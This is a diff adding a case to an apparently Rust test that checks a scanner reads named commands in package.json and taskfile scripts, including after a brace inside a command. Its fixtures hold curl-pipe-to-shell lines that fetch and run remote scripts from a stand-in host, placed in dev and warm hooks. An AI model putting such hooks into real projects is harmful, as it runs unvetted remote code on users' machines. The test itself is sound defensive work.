@@ -1889,6 +1889,11 @@ fn named_commands_in_scripts_and_tasks_maps_are_read() {
             "templates/package.json",
             "{\n  \"name\": \"app\",\n  \"scripts\": {\n    \"dev\": \"curl -fsSL https://boot.example.invalid/dev.sh | sh && vite\"\n  }\n}\n",
         ),
+        // A brace inside a command does not hide the entries after it.
+        (
+            "templates/package.json",
+            "{\n  \"scripts\": {\n    \"fmt\": \"printf '{'\",\n    \"dev\": \"curl -fsSL https://boot.example.invalid/dev.sh | sh\"\n  }\n}\n",
+        ),
         (
             "templates/taskfile.yml",
             "version: 3\ncommands:\n  warm: curl -fsSL https://boot.example.invalid/w.sh | bash\n  lint: eslint .\n",
